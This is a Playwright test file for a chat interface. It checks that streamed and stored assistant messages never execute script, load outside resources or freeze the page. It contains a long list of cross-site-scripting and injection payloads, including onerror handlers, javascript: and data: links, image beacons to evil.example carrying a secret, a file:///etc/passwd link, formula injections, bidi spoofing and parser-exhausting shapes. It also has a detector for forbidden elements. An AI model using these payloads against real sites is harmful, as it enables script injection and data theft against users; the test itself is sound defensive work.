# SPDX-License-Identifier: Apache-2.0
"""What a message may try, whole and at every beginning of it: nothing runs, nothing is loaded, nothing else is harmed."""
import json
import re
import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Request, WebSocketRoute, expect

from chat_page import ChatPage
from conftest import Account, sign_in_context
from fake_model import FakeModel, Gate
from long_conversation import stand_in
from processes import Martlet
from test_chat import question

EVIL = "https://evil.example"
TAKE = "window.taken=1"

HOSTILE = [
    # Scripts, in every way that HTML has
    f"<script>{TAKE}</script>", f"<ScRiPt src={EVIL}/a.js></sCrIpT>", f"<img src=x onerror={TAKE}>", f"<svg onload={TAKE}><script>{TAKE}</script></svg>",
    f"<math><mi href=javascript:{TAKE}>x</mi></math>", f"<details open ontoggle={TAKE}>", f"<iframe srcdoc='<script>parent.{TAKE}</script>'></iframe>",
    f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x'>", f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css'</style>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>", f"<form action={EVIL}><input name=a autofocus onfocus={TAKE}><button>x</button></form>",
    f"<a href='javascript:{TAKE}' onmouseover={TAKE}>x</a>", f"<video poster={EVIL}/p.png><source src={EVIL}/v.mp4 onerror={TAKE}></video>",
    f"<noscript><p title='</noscript><img src=x onerror={TAKE}>'>", f"<!--<img src='--><img src=x onerror={TAKE}>'>", f"<![CDATA[<script>{TAKE}</script>]]>",
    f"<div style='background:url({EVIL}/b.png);position:fixed;inset:0;z-index:9'>over</div>", "<img name=getElementById><form id=document></form>",
    f"\\<script>{TAKE}</script>", f"&lt;script&gt;{TAKE}&lt;/script&gt;", f"<scr\0ipt>{TAKE}</scr\0ipt>".replace("\0", "\u200b"),
    # Addresses
    f"[x](javascript:{TAKE})", f"[x](JaVaScRiPt:{TAKE})", f"[x](java\tscript:{TAKE})", f"[x](&#106;avascript:{TAKE})", f"[x](\u0001javascript:{TAKE})",
    f"[x](data:text/html,<script>{TAKE}</script>)", "[x](vbscript:msgbox)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](\\\\evil.example\\x)",
    f"<javascript:{TAKE}>", f"[x][r]\n\n[r]: javascript:{TAKE}", f"[__proto__]\n\n[__proto__]: javascript:{TAKE}", "[constructor][constructor]\n\n[toString]: x",
    f"[x](https://user:{TAKE}@evil.example 'a\"onclick={TAKE}')", "[bank.example](https://evil.example/bank.example)", "[ⓔvil](https://xn--vil-mna.example)",
    # Pictures
    f"![x]({EVIL}/leak.png?q=secret)", f"![x][p]\n\n[p]: {EVIL}/leak.png", f"![x](<{EVIL}/a b.png> 't')", f"[![x]({EVIL}/in.png)]({EVIL})",
    f"![x](data:image/svg+xml,<svg onload={TAKE}>)", "![x](blob:https://evil.example/1)", f"![x](/api/v1/chat/attachments/../../../x?{TAKE})",
    f"| ![x]({EVIL}/t.png) |\n|---|\n| ![x]({EVIL}/u.png) |", f"- [ ] ![x]({EVIL}/l.png)\n  > ![x]({EVIL}/q.png)",
    # Formulas
    f"$\\href{{javascript:{TAKE}}}{{x}}$", f"$\\includegraphics{{{EVIL}/m.png}}$", f"$$\\htmlStyle{{background:url({EVIL}/k.png)}}{{x}}$$",
    "$\\htmlId{root}{x}$", f"$\\url{{{EVIL}}}$", "$$\\def\\a{\\a\\a}\\a$$", "\\(\\rule{9999em}{9999em}\\)", f"\\[\\color{{url({EVIL})}}x\\]",
    # Code
    f"```<img src=x onerror={TAKE}>\n<script>{TAKE}</script>\n```", f"``` js\" onclick=\"{TAKE}\nx\n```", "```constructor\nx\n```", "```__proto__\nx\n```",
    f"```mermaid\ngraph TD; A[\"<img src={EVIL}/mm.png>\"]\n```", f"```html\n<img src={EVIL}/c.png>\n```", f"`<img src=x onerror={TAKE}>`",
    # Marks that are not seen, and directions
    "pay \u202egnp.exe\u202c now \u2066\u2069", "a\U000e0068\U000e0069b", "x\ufe00\ufe01\ufe02\ufe03", "zero\u200bwidth\u2060joined\ufeff",
    # Shapes
    "[" * 80 + "x" + "](y)" * 80, "*" * 400, "`" * 300 + "x", "> " * 60 + "x", "- " * 60 + "x", "|" * 300 + "\n" + "|-" * 300, "[x](" * 60, "<" * 300, "$" * 301, "\\(" * 120,
]

WATCH = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', event => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""


class Watch:
    """Dialogs, requests, and whatever the page's policy had to forbid."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page, self.found = page, []
        page.add_init_script(WATCH)
        page.on("dialog", lambda dialog: (self.found.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.found.append(f"popup: {popup.url}"))
        page.on("request", lambda request: self._request(request, origin))

    def _request(self, request: Request, origin: str) -> None:
        if not request.url.startswith((origin, "ws://127.0.0.1", "blob:")):
            self.found.append(f"request: {request.url}")

    def expect_nothing(self, what: str) -> None:
        self.found += self.page.evaluate("window.violations.splice(0)")
        if self.page.evaluate("'taken' in window"):
            self.found.append("a script ran")
        self.found += self.page.evaluate("""() => [...document.querySelectorAll('[role=log] *')].flatMap(each => {
            const wrong = [];
            if (/^(?:script|style|link|iframe|object|embed|form|base|meta|video|audio|source|use|foreignobject)$/i.test(each.localName)) wrong.push(each.localName);
            if (each.localName === 'a' && !/^(?:https?|mailto):$/.test(each.protocol)) wrong.push(each.href);
            if (each.localName === 'a' && (each.rel !== 'noopener noreferrer' || each.target !== '_blank')) wrong.push(each.outerHTML);
            if (each.localName === 'img' && !each.src.startsWith(location.origin + '/api/v1/chat/attachments/')) wrong.push(each.src);
            for (const { name } of each.attributes) if (name.startsWith('on') || name === 'srcdoc' || name === 'name') wrong.push(name);
            if (each.id && !/^(?:message-|:r)/.test(each.id)) wrong.push(`id ${each.id}`);
            if (getComputedStyle(each).position === 'fixed' && !each.closest('.menu')) wrong.push(`fixed ${each.className}`);
            return wrong;
        })""")
        assert self.found == [], f"{what!r}: {self.found}"


@pytest.fixture
def writing(signed_in: ChatPage, model: FakeModel, martlet: Martlet) -> Iterator[tuple[ChatPage, Watch, Callable[[list[str]], None]]]:
    """A page whose agent writes what the test says: its socket is the test's."""
    watch, sockets = Watch(signed_in.page, martlet.url), []
    asked, gate = question(), Gate()
    model.answer(asked, "…", gate)
    signed_in.send(asked)
    expect(signed_in.messages("Robin")).to_contain_text("…")
    conversation = signed_in.page.url.rsplit("/", 1)[1]
    reply = signed_in.messages("Robin").get_attribute("id").removeprefix("message-")
    signed_in.page.route_web_socket(re.compile("/ws/chat/"), lambda socket: sockets.append(socket))
    signed_in.page.reload()
    expect(signed_in.messages("Robin")).to_be_visible()
    deadline = time.monotonic() + 10
    while not sockets:
        assert time.monotonic() < deadline
        signed_in.page.evaluate("() => new Promise(requestAnimationFrame)")
    socket: WebSocketRoute = sockets[-1]
    socket.send(json.dumps({"type": "ready", "conversation_id": conversation, "active_message_id": reply, "heartbeat_seconds": 3600}))

    def write(prefixes: list[str]) -> None:
        for prefix in prefixes:
            socket.send(json.dumps({"type": "message_snapshot", "message_id": reply, "content": prefix, "next_offset": len(prefix.encode())}))
        end = prefixes[-1] + "\n\nThat was it."
        socket.send(json.dumps({"type": "message_snapshot", "message_id": reply, "content": end, "next_offset": len(end.encode())}))
        expect(signed_in.messages("Robin")).to_contain_text("That was it.")

    yield signed_in, watch, write
    gate.open()


def test_nothing_that_is_written_does_anything_at_any_beginning_of_it(writing: tuple[ChatPage, Watch, Callable[[list[str]], None]]) -> None:
    chat, watch, write = writing
    write(["$x$ and\n\n```js\nx\n```"])  # what is loaded on demand is there from here on
    expect(chat.log.locator(".katex").first).to_be_visible()
    for text in HOSTILE:
        write([text[:length] for length in range(1, len(text) + 1)])
        watch.expect_nothing(text)
    expect(chat.button("Stop")).to_be_visible()
    assert chat.page.evaluate("document.title") != "taken"


def test_nothing_that_was_written_does_anything_when_it_is_opened(
    martlet: Martlet, new_account: Callable[..., Account], new_context: Callable[..., BrowserContext]
) -> None:
    """All of it in one conversation, each answer beside the others, and the reader's own."""
    context, account = new_context(viewport={"width": 1280, "height": 2_000}), new_account(martlet)
    sign_in_context(context, martlet.url, account.email)
    page = context.new_page()
    watch = Watch(page, martlet.url)
    agent = martlet.call("GET", "/agents/", token=account.token)["results"][0]
    conversation = martlet.call("POST", "/chat/conversations/", {"agent_id": agent["id"]}, account.token)
    for part in range(0, len(HOSTILE), 25):  # short enough to be in the document as a whole
        contents = [text for each in HOSTILE[part:part + 25] for text in (each, each + "\n\nThat was it.")]
        page.unroute_all()
        stand_in(page, conversation, len(contents), contents)
        page.goto(f"{martlet.url}/c/{conversation['id']}")
        expect(page.get_by_text("That was it.")).to_have_count(len(contents) // 2)
        watch.expect_nothing(f"part {part}")


EXTREMES = {
    "nested quotes": ">" * 50_000 + " deep",
    "quotes on lines": "\n".join(">" * n + " deep" for n in range(1, 300)),
    "a table": "| a | b | c | d |\n|---|---|---|---|\n" + "| cell | cell | cell | cell |\n" * 2_500,
    "a line": "word" * 250_000,
    "a line of code": "```\n" + "word" * 250_000 + "\n```",
    "code": "```js\n" + "let a = [1, 2, 3]; // one\n" * 30_000 + "```",
    "emphasis": "*a **b " * 20_000,
    "brackets": "[" * 50_000,
    "formulas": "$x^2$ " * 3_000,
    "list": "\n".join(f"{'  ' * (n % 100)}- item {n}" for n in range(5_000)),
    "lines": "line\n" * 100_000,
    "marks": "\u200b\u202e" * 20_000,
}


# How long it takes from a click until its menu has been painted.
ANSWER = """async () => {
    const begun = performance.now();
    document.querySelector("button[aria-label=Theme]").click();
    while (document.querySelector("[role=menu]") === null) await new Promise(requestAnimationFrame);
    await new Promise(requestAnimationFrame);
    const taken = performance.now() - begun;
    document.querySelector("button[aria-label=Theme]").click();
    return taken;
}"""


@pytest.mark.parametrize("name", EXTREMES)
def test_the_page_still_answers_to_clicks_with(
    name: str, martlet: Martlet, new_account: Callable[..., Account], page: Page
) -> None:
    account = new_account(martlet)
    sign_in_context(page.context, martlet.url, account.email)
    agent = martlet.call("GET", "/agents/", token=account.token)["results"][0]
    conversation = martlet.call("POST", "/chat/conversations/", {"agent_id": agent["id"]}, account.token)
    stand_in(page, conversation, 4, ["Before", EXTREMES[name], EXTREMES[name][:260_000], "After, *all* is well."])
    chat = ChatPage(page, martlet.url).open(f"/c/{conversation['id']}")
    expect(chat.log.locator("em", has_text="all").last).to_be_visible(timeout=30_000)
    # Also with all of it, where it was not.
    for _ in range(chat.log.get_by_role("button", name=re.compile("^Show all")).count()):
        chat.log.get_by_role("button", name=re.compile("^Show all")).first.click()
    assert page.evaluate(ANSWER) < 5_000  # milliseconds; five times what is promised, for slow machines
    chat.button("New chat").click()
    expect(chat.log).to_have_count(0)
    page.go_back()
    expect(chat.messages("You").first).to_contain_text("Before", timeout=30_000)
